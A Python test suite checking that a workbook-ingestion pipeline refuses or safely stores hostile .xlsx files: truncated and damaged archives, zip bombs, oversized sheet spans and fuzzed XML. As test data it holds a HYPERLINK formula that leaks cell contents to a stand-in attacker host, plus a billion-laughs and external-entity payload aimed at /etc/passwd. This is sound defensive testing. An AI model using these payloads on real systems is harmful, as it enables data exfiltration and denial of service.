"""Bad workbooks: torn, bombs, spans without end, damaged XML; formulas as their value or their words, never run."""

import io
import random
import struct
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from pipelines import read_workbook
from pipelines.ingest import IngestError
from tests.intake_desk import HEADING, SHEET, Desk, packed, refused, repacked, row

GOOD = packed([HEADING, row(1), row(2)])
FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"点此")'


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    made = Desk(tmp_path)
    with made.vault:
        yield made


@pytest.mark.parametrize("kept", [0.05, 0.3, 0.6, 0.9, 0.99])
def test_a_half_written_workbook(desk: Desk, kept: float) -> None:
    refused(desk, "a.xlsx", GOOD[: int(len(GOOD) * kept)], "half-written.*; export it again")


def test_a_damaged_workbook(desk: Desk) -> None:
    damaged = bytearray(GOOD)
    with zipfile.ZipFile(io.BytesIO(GOOD)) as archive:
        at = archive.getinfo(SHEET).header_offset + 30 + len(SHEET) + 40
    damaged[at : at + 20] = b"\xff" * 20
    refused(desk, "a.xlsx", bytes(damaged), "damaged or half-written")
    refused(desk, "a.xlsx", repacked(GOOD, {SHEET: b"<worksheet><sheetData><row"}), "damaged|no sheet with rows|no heading")
    refused(desk, "a.xlsx", repacked(GOOD, {"xl/workbook.xml": b"<workbook/>"}), "damaged|no sheet")


def test_a_zip_bomb_by_size_and_one_that_lies_about_it(desk: Desk) -> None:
    bomb = repacked(GOOD, {SHEET: b" " * (80 << 20)})
    assert len(bomb) < 200_000
    refused(desk, "a.xlsx", bomb, "a zip bomb or not a table")
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        at = bomb.rindex(SHEET.encode()) - 46  # its entry in the central directory
        assert archive.getinfo(SHEET).file_size == 80 << 20
    lying = bomb[: at + 24] + struct.pack("<I", 1000) + bomb[at + 28 :]
    refused(desk, "a.xlsx", lying, "a zip bomb or not a table")


def test_a_sheet_spanning_far_more_than_it_holds(desk: Desk) -> None:
    book = openpyxl.Workbook()
    book.active["A1"], book.active["XFD1048576"] = "标题", "x"
    out = io.BytesIO()
    book.save(out)
    refused(desk, "a.xlsx", out.getvalue(), "the sheet spans 17179869184 cells")


@pytest.mark.parametrize(
    ("first", "last"),
    [
        ('<c s="1" r="A1">', '<c r = "CV900000">'),
        ("<c r='a1'>", "<c r='cv900000'>"),
        ('<c r="A1">', '<c r="ZZZZ4000000">'),
        ("<c>", "<c><v>1</v></c>" * 99 + "<c>"),
    ],
)
def test_a_span_however_its_cells_are_written(desk: Desk, first: str, last: str) -> None:
    """A reader that lays out such a rectangle ends the whole process."""
    cell = "<v>1</v></c></row>"
    rows = f'<sheetData><row r="1">{first}{cell}<row r="900000">{last}{cell}</sheetData>'
    sheet = f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{rows}</worksheet>'
    refused(desk, "a.xlsx", repacked(GOOD, {SHEET: sheet.encode()}), "the sheet spans [0-9]+ cells")


def test_a_bound_on_what_a_workbook_unpacks_to(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(read_workbook, "MOST_BYTES", 3000)
    refused(desk, "a.xlsx", GOOD, "zip bomb or not a table")


def test_entities_in_a_workbook_are_not_expanded(desk: Desk) -> None:
    laughs = (
        b'<!DOCTYPE x [<!ENTITY a "'
        + b"ha" * 500
        + b'"><!ENTITY b "'
        + b"&a;" * 500
        + b'"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
    )
    with zipfile.ZipFile(io.BytesIO(GOOD)) as archive:
        xml = archive.read(SHEET)
    for entity in (b"&b;", b"&f;"):
        cell = b'<row r="4"><c r="D4" t="inlineStr"><is><t>' + entity + b"</t></is></c></row></sheetData>"
        hostile = laughs + xml.replace(b"</sheetData>", cell)
        try:
            desk.take("a.xlsx", repacked(GOOD, {SHEET: hostile}))
        except IngestError as error:
            assert "damaged" in str(error)
        assert all("haha" not in str(f) and "root:" not in str(f) for f in desk.fields())


def test_a_formula_where_the_table_does_not_begin_at_the_corner(desk: Desk) -> None:
    book = openpyxl.Workbook()
    for number, cells in enumerate([HEADING, row(1, FORMULA), row(2, '=CONCAT("a<b","&",A1)')]):
        for column, cell in enumerate(cells):
            book.active.cell(number + 4, column + 3, cell)
    out = io.BytesIO()
    book.save(out)
    desk.take("a.xlsx", out.getvalue())
    assert [f["body"] for f in desk.fields()] == [FORMULA, '=CONCAT("a<b","&",A1)']
    assert [stored.place for stored in desk.stored()] == ["a.xlsx:5", "a.xlsx:6"]


@pytest.mark.parametrize("seed", range(40))
def test_a_workbook_with_damaged_xml_is_read_or_refused(desk: Desk, seed: int) -> None:
    rng = random.Random(seed)
    book = packed([HEADING, row(1), row(2, FORMULA), row(3)])
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        name = rng.choice(archive.namelist())
        xml = bytearray(archive.read(name))
    for _ in range(rng.randint(1, 4)):
        at = rng.randrange(len(xml))
        xml[at : at + rng.randint(0, 20)] = rng.choice(
            [b"", b"&#0;", b"<f>", b"</c>", b"99999999999", rng.randbytes(5), bytes(xml[:40])]
        )
    try:
        desk.take("a.xlsx", repacked(book, {name: bytes(xml)}))
    except IngestError as error:
        assert "a.xlsx: " in str(error)


def test_a_formulas_cached_value_goes_before_its_text(desk: Desk) -> None:
    with zipfile.ZipFile(io.BytesIO(packed([HEADING, row(1, FORMULA)]))) as archive:
        xml = archive.read(SHEET)
    assert xml.count(b"</f><v") == 1
    cached = (
        xml.replace(b"</f><v />", b"</f><v>40</v>")
        .replace(b"</f><v></v>", b"</f><v>40</v>")
        .replace(b"</f><v/>", b"</f><v>40</v>")
    )
    desk.take("a.xlsx", repacked(packed([HEADING, row(1, FORMULA)]), {SHEET: cached}))
    assert desk.fields()[0]["body"] == "40"
